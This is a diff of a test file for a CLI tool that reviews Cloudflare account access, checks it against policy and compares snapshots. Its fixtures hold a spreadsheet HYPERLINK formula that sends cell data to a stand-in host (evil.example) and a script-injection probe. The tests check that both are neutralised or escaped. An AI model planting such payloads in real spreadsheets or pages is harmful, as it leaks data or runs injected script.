@@ -14,12 +14,17 @@ import { main } from './cli';
 import { diffGraphs } from './diff/diff';
 import { renderDiffMarkdown } from './diff/render';
 import { buildAccessModel, splitList } from './graph/access';
+import { collectionInfo } from './graph/collection';
 import { indexGraph, loadGraph } from './graph/load';
 import { renderReview } from './review/render';
+import { isoSeconds } from './util/output';
 
 const BEFORE = path.join(__dirname, 'test-fixtures', 'before');
 const AFTER = path.join(__dirname, 'test-fixtures', 'after');
 const T0 = Date.parse('2025-06-01T00:00:00Z');
+
+/** When the fixture's summary.json was written (its checkout time): what the reports say. */
+const writtenAt = (dir: string) => isoSeconds(fs.statSync(path.join(dir, 'summary.json')).mtimeMs);
 
 async function cli(argv: string[]) {
   let stdout = '';
@@ -29,46 +34,78 @@ async function cli(argv: string[]) {
 }
 
 describe('review', () => {
-  test('CSV rows: roles, policy grants (allowed and denied), last login, tokens; formulas neutralised', async () => {
+  test('CSV: collection preamble, member rows (roles, policy grants, last login), token section; formulas neutralised', async () => {
     const { code, stdout, stderr } = await cli(['review', BEFORE, '--format', 'csv']);
     expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
     expect(stdout.split('\r\n')).toEqual([
-      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last login,Tokens created',
-      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-22T00:00:00Z,' +
-        '"Forgotten export (active, never used); Terraform (active, last used 2025-05-30)"',
+      `Cloudflare access review,${path.join(BEFORE, 'graph')}`,
+      `Collected,files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z`,
+      'Completeness,Collection complete: every step finished.',
+      '',
+      'Account,Account ID,Member ID,Email,Name,Status,2FA,Roles,Resource-scoped grants,Last login',
+      'Fixture Co,acc1,m1,alice@fixture.example,Alice Admin,accepted,on,Super Administrator - All Privileges,,2025-05-22T00:00:00Z',
       'Fixture Co,acc1,m2,bob@fixture.example,Bob Zone,accepted,unknown,,' +
         'Fixture Co (account): Zone Read; fixture.example (zone): Domain DNS (denied DNS Records Write); other.example (zone): denied Domain DNS,' +
-        'never,"Old bot (disabled, last used 2024-09-24)"',
-      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,not a Zero Trust user,',
+        'never',
+      'Fixture Co,acc1,m3,carol@fixture.example,"\'=HYPERLINK(""https://evil.example/?""&A1,""Carol"")",pending,off,Administrator,,not a Zero Trust user',
       'Fixture Co,acc1,m4,dave@fixture.example,Dave <script>alert(1)</script> Styles,accepted,off,' +
-        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,not a Zero Trust user,',
+        '"SSL/TLS, Caching, Performance, Page Rules, and Customization",Fixture Co (account): Analytics,not a Zero Trust user',
+      '',
+      'Account,Token ID,Name,Owner,Status,Permissions,Scope,Can edit,Last used,Expires',
+      'Fixture Co,t2,Forgotten export,account,active,Zone Read,fixture.example (zone): Zone Read,no,never,never',
+      'Fixture Co,t3,Old bot,account,disabled,,no collected account or zone,unknown,2024-09-24,never',
+      'Fixture Co,t1,Terraform,account,active,"DNS Write, Zone Read","Fixture Co (account, all zones): DNS Write, Zone Read",yes,2025-05-30,2025-12-31',
+      '(user token),t4,Personal CLI,user,active,,no collected account or zone,unknown,2025-03-02,never',
       '',
     ]);
   });
 
-  test('Markdown: one table per account, pipes escaped', () => {
-    const model = buildAccessModel(loadGraph(BEFORE));
+  test('--bom starts the CSV with a UTF-8 byte order mark; other formats refuse it', async () => {
+    const csv = await cli(['review', BEFORE, '--format', 'csv', '--bom']);
+    expect(csv.code).toBe(0);
+    expect(csv.stdout.startsWith('\ufeffCloudflare access review,')).toBe(true);
+    expect((await cli(['review', BEFORE, '--format', 'csv'])).stdout.charCodeAt(0)).not.toBe(0xfeff);
+    expect(await cli(['review', BEFORE, '--bom'])).toEqual({
+      code: 2,
+      stdout: '',
+      stderr:
+        'graph-cloudflare review: --bom applies to --format csv only, not md\nRun `graph-cloudflare review --help` for usage.\n',
+    });
+  });
+
+  test('Markdown: one table per account, pipes escaped, then the API tokens', () => {
+    const graph = loadGraph(BEFORE);
+    const model = buildAccessModel(graph);
     model.members[0].name = 'Alice | Admin';
-    const md = renderReview(model, 'md', { graph: 'g' });
-    expect(md.split('\n').slice(0, 10)).toEqual([
+    const md = renderReview(model, 'md', { graph: 'g', collection: collectionInfo(graph) });
+    expect(md.split('\n').slice(0, 12)).toEqual([
       '# Cloudflare access review',
       '',
       'Graph: `g`',
+      '',
+      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z. Collection complete: every step finished.`,
       '',
       '4 members in 1 accounts; 2 accepted without 2FA (off or unknown); 1 Super Administrators; 1 pending invitations',
       '',
       '## Fixture Co (acc1)',
       '',
-      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last login | Tokens created |',
-      '| --- | --- | --- | --- | --- | --- | --- | --- | --- |',
+      '| Member ID | Email | Name | Status | 2FA | Roles | Resource-scoped grants | Last login |',
+      '| --- | --- | --- | --- | --- | --- | --- | --- |',
     ]);
     expect(md).toContain(
-      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-22T00:00:00Z | Forgotten export (active, never used); Terraform (active, last used 2025-05-30) |',
+      '| m1 | alice@fixture.example | Alice \\| Admin | accepted | on | Super Administrator - All Privileges |   | 2025-05-22T00:00:00Z |',
+    );
+    expect(md).toContain(
+      '## API tokens\n\n| Account | Token ID | Name | Owner | Status | Permissions | Scope | Can edit | Last used | Expires |',
+    );
+    expect(md).toContain(
+      '| Fixture Co | t1 | Terraform | account | active | DNS Write, Zone Read | Fixture Co (account, all zones): DNS Write, Zone Read | yes | 2025-05-30 | 2025-12-31 |',
     );
   });
 
   test('HTML: one page with nothing external, everything escaped, summary counts', () => {
-    const html = renderReview(buildAccessModel(loadGraph(BEFORE)), 'html', { graph: '<g>' });
+    const graph = loadGraph(BEFORE);
+    const html = renderReview(buildAccessModel(graph), 'html', { graph: '<g>', collection: collectionInfo(graph) });
     expect(html).not.toMatch(/<script[^>]*\ssrc=|<link\s|https?:\/\/(?!evil\.example)/);
     expect(html).not.toContain('<script>alert(1)</script>');
     expect(html).toContain('Dave &lt;script&gt;alert(1)&lt;/script&gt; Styles');
@@ -83,6 +120,10 @@ describe('review', () => {
       '<div class="card warn"><b>1</b>pending invitations</div>',
     ]);
     expect(html.match(/<tr data-account/g)).toHaveLength(4);
+    expect(html).toContain('<h2>API tokens</h2>\n<table id="tokens">');
+    expect(html).toContain(
+      '<td>Terraform</td><td>account</td><td>active</td><td>DNS Write, Zone Read</td><td>Fixture Co (account, all zones): DNS Write, Zone Read</td>',
+    );
     expect(html).toContain('<td><span class="super">Super Administrator - All Privileges</span></td>');
   });
 
@@ -137,11 +178,15 @@ describe('check', () => {
     const policy = parsePolicy(POLICY, 'p.json');
     const checks = runChecks(buildAccessModel(graph), parseRoster(ROSTER, 'r.csv'), policy, T0);
     const text = renderCheckText(
-      makeReport({ graph: 'G', roster: 'r.csv', policy: 'p.json', now: T0, settings: policy }, checks),
+      makeReport(
+        { graph: 'G', roster: 'r.csv', policy: 'p.json', now: T0, settings: policy, collection: collectionInfo(graph) },
+        checks,
+      ),
     );
     expect(text.split('\n')).toEqual([
       'graph-cloudflare check: 6 of 6 checks failed',
       'graph G, roster r.csv, policy p.json, as of 2025-06-01T00:00:00Z',
+      `Collected: files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z`,
       '',
       'FAIL  Every member is identified in the roster: 1 found  [4 members with access (accepted or invited) in 1 account]',
       '      Fixture Co  carol@fixture.example  not in the roster (invitation pending)',
@@ -161,8 +206,8 @@ describe('check', () => {
       '      Fixture Co  alice@fixture.example  Super Administrator, membership accepted; Fixture Co has 1 (at most 0)',
       '',
       'FAIL  No active API token unused for more than 90 days: 2 found  [3 active tokens]',
-      '      (user token)  -                      token "Personal CLI" (t4) last used 2025-03-02 (91 days ago)',
-      '      Fixture Co    alice@fixture.example  token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
+      '      (user token)  -  token "Personal CLI" (t4) last used 2025-03-02 (91 days ago)',
+      '      Fixture Co    -  token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
       '',
     ]);
   });
@@ -241,7 +286,7 @@ describe('check', () => {
         {
           accountId: 'acc1',
           accountName: 'Fixture Co',
-          email: 'alice@fixture.example',
+          email: '',
           tokenId: 't2',
           detail: 'token "Forgotten export" (t2) never used, issued 2024-11-13 (200 days ago)',
         },
@@ -264,7 +309,65 @@ describe('diff', () => {
       status,
       roles,
     });
-    expect(diff).toEqual({
+    expect(diff.collections).toEqual({
+      old: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-05-30T00:00:00Z' }),
+      new: expect.objectContaining({ completeness: 'complete', newestDataAt: '2025-06-01T00:00:00Z' }),
+    });
+    const grant = (
+      m: ReturnType<typeof member>,
+      scope: 'account' | 'zone',
+      target: string,
+      permissionGroups: string[],
+      deniedPermissionGroups: string[] = [],
+    ) => ({ member: m, scope, target, permissionGroups, deniedPermissionGroups });
+    const bob = member('m2', 'bob@fixture.example', 'accepted', []);
+    expect(diff.grants).toEqual({
+      added: [],
+      removed: [
+        grant(bob, 'account', 'Fixture Co', ['Zone Read']),
+        grant(bob, 'zone', 'fixture.example', ['Domain DNS'], ['DNS Records Write']),
+        grant(bob, 'zone', 'other.example', [], ['Domain DNS']),
+      ],
+      changed: [
+        {
+          grant: grant(
+            member('m4', 'dave@fixture.example', 'accepted', [
+              'SSL/TLS, Caching, Performance, Page Rules, and Customization',
+            ]),
+            'account',
+            'Fixture Co',
+            ['Analytics', 'Zone Read'],
+          ),
+          added: ['Zone Read'],
+          removed: [],
+          deniedAdded: [],
+          deniedRemoved: [],
+        },
+      ],
+    });
+    const zt = (id: string, name: string) => ({ id, name, accountId: 'acc1' });
+    expect(diff.zeroTrust).toEqual({
+      policies: {
+        added: [],
+        removed: [],
+        changed: [
+          {
+            item: zt('p1', 'Staff'),
+            changes: [
+              { field: 'includeRules', from: ['email_domain: fixture.example'], to: ['everyone'] },
+              { field: 'appliesToEveryone', from: false, to: true },
+            ],
+          },
+        ],
+      },
+      applications: {
+        added: [zt('a2', 'Admin panel')],
+        removed: [],
+        changed: [{ item: zt('a1', 'Wiki'), changes: [{ field: 'allowedIdps', from: ['i1'], to: ['i2'] }] }],
+      },
+      identityProviders: { added: [zt('i2', 'GitHub')], removed: [zt('i1', 'Okta')], changed: [] },
+    });
+    expect({ ...diff, collections: undefined, grants: undefined, zeroTrust: undefined }).toEqual({
       old: path.join(BEFORE, 'graph'),
       new: path.join(AFTER, 'graph'),
       members: {
@@ -316,9 +419,7 @@ describe('diff', () => {
         ],
       },
       tokens: {
-        created: [
-          { id: 't5', name: 'New deploy', status: 'active', accountId: 'acc1', createdBy: 'carol@fixture.example' },
-        ],
+        created: [{ id: 't5', name: 'New deploy', status: 'active', accountId: 'acc1' }],
         revoked: [
           {
             token: {
@@ -326,7 +427,6 @@ describe('diff', () => {
               name: 'Old bot',
               status: 'disabled',
               accountId: 'acc1',
-              createdBy: 'bob@fixture.example',
             },
             reason: 'deleted (was disabled)',
           },
@@ -336,7 +436,6 @@ describe('diff', () => {
               name: 'Terraform',
               status: 'disabled',
               accountId: 'acc1',
-              createdBy: 'alice@fixture.example',
             },
             reason: 'status active → disabled',
           },
@@ -366,23 +465,33 @@ describe('diff', () => {
   test('the same graph twice: no changes', async () => {
     const { code, stdout } = await cli(['diff', BEFORE, BEFORE]);
     expect(code).toBe(0);
+    const time = `files written ${writtenAt(BEFORE)} (summary.json; a copy shows the copy's time); newest time in the data 2025-05-30T00:00:00Z`;
     expect(stdout).toBe(
-      `# Cloudflare changes\n\nFrom \`${path.join(BEFORE, 'graph')}\` to \`${path.join(BEFORE, 'graph')}\`: no changes.\n`,
+      `# Cloudflare changes\n\nFrom \`${path.join(BEFORE, 'graph')}\` to \`${path.join(BEFORE, 'graph')}\`: no changes.\n\n` +
+        `Old graph: Collected: ${time}.\n\nNew graph: Collected: ${time}.\n`,
     );
   });
 
   test('Markdown', () => {
     const md = renderDiffMarkdown(diffGraphs(loadGraph(BEFORE), loadGraph(AFTER)));
-    expect(md).toContain('12 changes.');
+    expect(md).toContain('21 changes.');
+    expect(md).toContain(
+      '## Policy grants (access that is not a role)\n\n### Removed (3)\n\n- bob@fixture.example (Fixture Co, m2) on Fixture Co (account): was Zone Read\n',
+    );
+    expect(md).toContain('- dave@fixture.example (Fixture Co, m4) on Fixture Co (account): + Zone Read\n');
+    expect(md).toContain(
+      '## Access policies\n\n### Changed (1)\n\n- "Staff" (p1, account acc1): includeRules `email_domain: fixture.example` → `everyone`, appliesToEveryone `false` → `true`\n',
+    );
+    expect(md).toContain(
+      '## Identity providers\n\n### Added (1)\n\n- "GitHub" (i2, account acc1)\n\n### Removed (1)\n\n- "Okta" (i1, account acc1)\n',
+    );
     expect(md).toContain(
       '- fixture.example (z1): sslMode `strict` → `flexible`, minTlsVersion `1.2` → `1.0`, alwaysUseHttps `true` → `false`, hstsEnabled `true` → `false`, dnssecStatus `active` → `pending`',
     );
     expect(md).toContain(
       '- alice@fixture.example (Fixture Co, m1): + Administrator; − Super Administrator - All Privileges',
     );
-    expect(md).toContain(
-      '- "Terraform" (t1, created by alice@fixture.example, account acc1): status active → disabled',
-    );
+    expect(md).toContain('- "Terraform" (t1, account acc1): status active → disabled');
   });
 
   test('parts one graph did not collect are not compared, and say so', () => {
@@ -399,7 +508,12 @@ describe('diff', () => {
       ]),
     });
     const diff = diffGraphs(before, noTokens);
-    expect(diff.notes).toEqual(['API tokens not compared: not collected in the new graph.']);
+    expect(diff.notes).toEqual([
+      'Access policies not compared: not collected in the new graph.',
+      'Access applications not compared: not collected in the new graph.',
+      'Identity providers not compared: not collected in the new graph.',
+      'API tokens not compared: not collected in the new graph.',
+    ]);
     expect(diff.tokens).toEqual({ created: [], revoked: [] });
     expect(diff.members.added).toHaveLength(1);
   });
@@ -470,5 +584,111 @@ describe('usage and input errors', () => {
     expect(result.stderr).toMatch(
       new RegExp(`^${out.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: cannot write the review \\(ENOENT`),
     );
+  });
+});
+
+describe('partial and copied collections say so in every output', () => {
+  let dir: string;
+  let partial: string;
+  let copied: string;
+  const UNKNOWN =
+    'COMPLETENESS UNKNOWN: no summary.json beside the graph folder, so nothing tells whether every area was read (copy the whole .j1-integration folder, not only its graph folder).';
+  const PARTIAL =
+    'PARTIAL COLLECTION: steps not finished: fetch-api-tokens (failure); partial types: cloudflare_api_token. Results may miss what the run could not read.';
+  beforeAll(() => {
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-partial-'));
+    // A run whose api-tokens step failed.
+    partial = path.join(dir, 'partial');
+    fs.cpSync(BEFORE, partial, { recursive: true });
+    const summary = JSON.parse(fs.readFileSync(path.join(partial, 'summary.json'), 'utf8'));
+    summary.integrationStepResults.find((s: { id: string }) => s.id === 'fetch-api-tokens').status = 'failure';
+    summary.metadata.partialDatasets.types = ['cloudflare_api_token'];
+    fs.writeFileSync(path.join(partial, 'summary.json'), JSON.stringify(summary));
+    // Only the graph folder copied, without its summary.
+    copied = path.join(dir, 'copied');
+    fs.cpSync(path.join(BEFORE, 'graph'), copied, { recursive: true });
+  });
+  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
+
+  test('review: CSV, Markdown and HTML carry the banner; stderr warns too', async () => {
+    const csv = await cli(['review', partial, '--format', 'csv']);
+    expect(csv.stderr).toBe(`graph-cloudflare: warning: ${path.join(partial, 'graph')}: ${PARTIAL}\n`);
+    expect(csv.stdout.split('\r\n')[2]).toBe(`Completeness,${PARTIAL}`);
+    const md = await cli(['review', copied]);
+    expect(md.stdout.split('\n').slice(0, 3)).toEqual(['# Cloudflare access review', '', `> **${UNKNOWN}**`]);
+    expect(md.stdout).toMatch(
+      /\nCollected: files written \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ \(newest graph file; a copy shows the copy's time\); newest time in the data 2025-05-30T00:00:00Z\.\n/,
+    );
+    const html = await cli(['review', partial, '--format', 'html']);
+    expect(html.stdout).toContain(`<p class="banner" role="alert">${PARTIAL}</p>`);
+  });
+
+  test('check: text and JSON carry the banner and the collection', async () => {
+    const roster = path.join(dir, 'roster.csv');
+    fs.writeFileSync(roster, 'email\nalice@fixture.example\n');
+    const text = await cli(['check', copied, '--roster', roster]);
+    expect(text.stdout.split('\n')[1]).toBe(`!!! ${UNKNOWN}`);
+    const json = JSON.parse((await cli(['check', partial, '--roster', roster, '--format', 'json'])).stdout);
+    expect(json.collection).toMatchObject({
+      completeness: 'partial',
+      banner: PARTIAL,
+      failedSteps: ['fetch-api-tokens (failure)'],
+      partialTypes: ['cloudflare_api_token'],
+    });
+  });
+
+  test('diff: Markdown and JSON carry each side’s banner', async () => {
+    const md = await cli(['diff', copied, partial]);
+    expect(md.stdout).toContain(`> **Old graph: ${UNKNOWN}**`);
+    expect(md.stdout).toContain(`> **New graph: ${PARTIAL}**`);
+    const json = JSON.parse((await cli(['diff', AFTER, partial, '--format', 'json'])).stdout);
+    expect([json.collections.old.completeness, json.collections.new.completeness]).toEqual(['complete', 'partial']);
+  });
+});
+
+describe('a policy naming a role no account has', () => {
+  test('gets a warning on stderr and in the report', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-policy-'));
+    try {
+      fs.writeFileSync(path.join(dir, 'roster.csv'), 'email\nalice@fixture.example\n');
+      fs.writeFileSync(
+        path.join(dir, 'policy.json'),
+        '{"allowedRoles": {"IT": ["Super Administrator - All Privileges", "Adminstrator"], "Ops": ["Zone Read"]}}',
+      );
+      const policy = path.join(dir, 'policy.json');
+      const result = await cli([
+        'check',
+        BEFORE,
+        '--roster',
+        path.join(dir, 'roster.csv'),
+        '--policy',
+        policy,
+        '--format',
+        'json',
+      ]);
+      const warning = `${policy}:1:66: allowedRoles."IT" names "Adminstrator", which no account in the graph has as a role (nor any member as a permission group); check its spelling against the roles in the review`;
+      expect(result.stderr).toBe(`graph-cloudflare: warning: ${warning}\n`);
+      expect(JSON.parse(result.stdout).warnings).toEqual([warning]);
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('each command’s --help', () => {
+  test('lists exactly the options its parser accepts, and GRAPH_DIR only where it applies', async () => {
+    const accepted: Record<string, string[]> = {
+      review: ['--bom', '--format', '--out'],
+      check: ['--format', '--now', '--out', '--policy', '--roster'],
+      diff: ['--format', '--out'],
+    };
+    for (const [command, options] of Object.entries(accepted)) {
+      const { stdout } = await cli([command, '--help']);
+      const described = [...stdout.matchAll(/^ {2}(--[a-z]+)/gm)].map((m) => m[1]).sort();
+      expect({ command, described }).toEqual({ command, described: options });
+      expect(/^ {2}GRAPH_DIR /m.test(stdout)).toBe(command !== 'diff');
+      // An option the help does not list is refused.
+      if (command !== 'review') expect((await cli([command, '--bom'])).code).toBe(2);
+    }
   });
 });
